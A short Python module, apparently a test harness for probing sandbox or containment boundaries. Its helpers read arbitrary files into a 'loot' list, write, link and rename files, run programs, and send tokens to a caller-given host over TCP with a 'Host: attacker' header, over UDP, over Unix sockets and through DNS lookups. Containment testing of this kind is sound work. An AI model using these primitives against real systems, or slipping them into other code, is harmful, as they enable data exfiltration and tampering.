import os as _os, shutil as _shutil, socket as _socket, subprocess as _subprocess

_loot = []


def _tried(act):
    def attempt(*words):
        try:
            act(*words)
        except (OSError, ValueError):
            pass

    return attempt


def _file(path, mode, data, how=0o644):
    _os.makedirs(_os.path.dirname(path), exist_ok=True)
    with open(path, mode) as file:
        file.write(data)
    _os.chmod(path, how)


@_tried
def get(path):
    with open(path, "rb") as file:
        _loot.append(file.read())


@_tried
def put(path, text):
    _file(path, "wb", text.encode())


@_tried
def add(path, text):
    with open(path, "ab") as file:
        file.write(text.encode())


@_tried
def copy(old, new):
    with open(old, "rb") as file:
        data = file.read()
    _file(new, "wb", data, 0o755)


@_tried
def start(program, first, second):
    command = [program, *filter(None, (first, second))]
    _loot.append(_subprocess.run(command, stdout=_subprocess.PIPE, stderr=_subprocess.STDOUT, timeout=30).stdout)


@_tried
def hard(old, new):
    _os.link(old, new)


@_tried
def soft(old, new):
    _os.symlink(old, new)


@_tried
def relocate(old, new):
    _os.rename(old, new)


@_tried
def post(host, port, token):
    with _socket.create_connection((host, int(port)), 5) as other:
        other.sendall(f"GET /{token} HTTP/1.1\r\nHost: attacker\r\n\r\n".encode())
        other.recv(100)


@_tried
def datagram(host, port, token):
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as other:
        other.sendto(token.encode(), (host, int(port)))


@_tried
def ask(name):
    _socket.getaddrinfo(name, 80)


@_tried
def whisper(path, token):
    with _socket.socket(_socket.AF_UNIX) as other:
        other.connect(path)
        other.sendall(token.encode())


@_tried
def serve(host, port):
    with _socket.socket() as server:
        server.setsockopt(_socket.SOL_SOCKET, _socket.SO_REUSEADDR, 1)
        server.bind((host, int(port)))
        server.listen()
        _loot.append(b"listening")


@_tried
def finish(path):
    with open(path, "wb") as file:
        file.write(b"begun\n" + b"\n".join(_loot))


